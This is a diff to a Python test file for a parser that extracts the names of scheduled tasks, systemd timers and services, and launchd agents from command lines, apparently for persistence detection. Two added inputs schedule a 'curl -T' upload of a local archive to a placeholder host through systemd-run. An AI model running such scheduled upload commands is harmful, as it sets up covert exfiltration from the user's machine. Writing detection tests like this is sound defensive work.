@@ -143,9 +143,18 @@ def test_a_process_id_is_a_decimal_number_or_nothing(value, expected):
         ('schtasks /create /tn "\\" /tr x', None),
         ("schtasks /create /tr x", None),
         ("curl --tn x", None),
+        ("powershell Register-ScheduledTask -Action $a -TaskName 'Sync Docs' -Trigger $t", "\\Sync Docs"),
+        ("systemd-run --on-calendar=hourly --unit=sync curl -T /tmp/q.tgz http://x.test/", "sync.timer"),
+        ("systemd-run --unit sync.service curl -T /tmp/q.tgz http://x.test/", "sync.service"),
+        ("systemctl enable --now sync.timer", "sync.timer"),
+        ("systemctl --user start sync.timer", "sync.timer"),
+        ("systemctl status sync.timer", None),
+        ("launchctl load -w /Library/LaunchAgents/com.sync.plist", "/Library/LaunchAgents/com.sync.plist"),
+        ("launchctl bootstrap gui/501 /Users/a/Library/LaunchAgents/s.plist", "/Users/a/Library/LaunchAgents/s.plist"),
+        ("launchctl list", None),
     ],
 )
-def test_a_tasks_path_is_read_from_schtasks(command, task):
+def test_a_schedules_name_is_read_from_the_command_that_makes_it(command, task):
     assert facts(make("a", CommandLine=command)).task == task
 
 
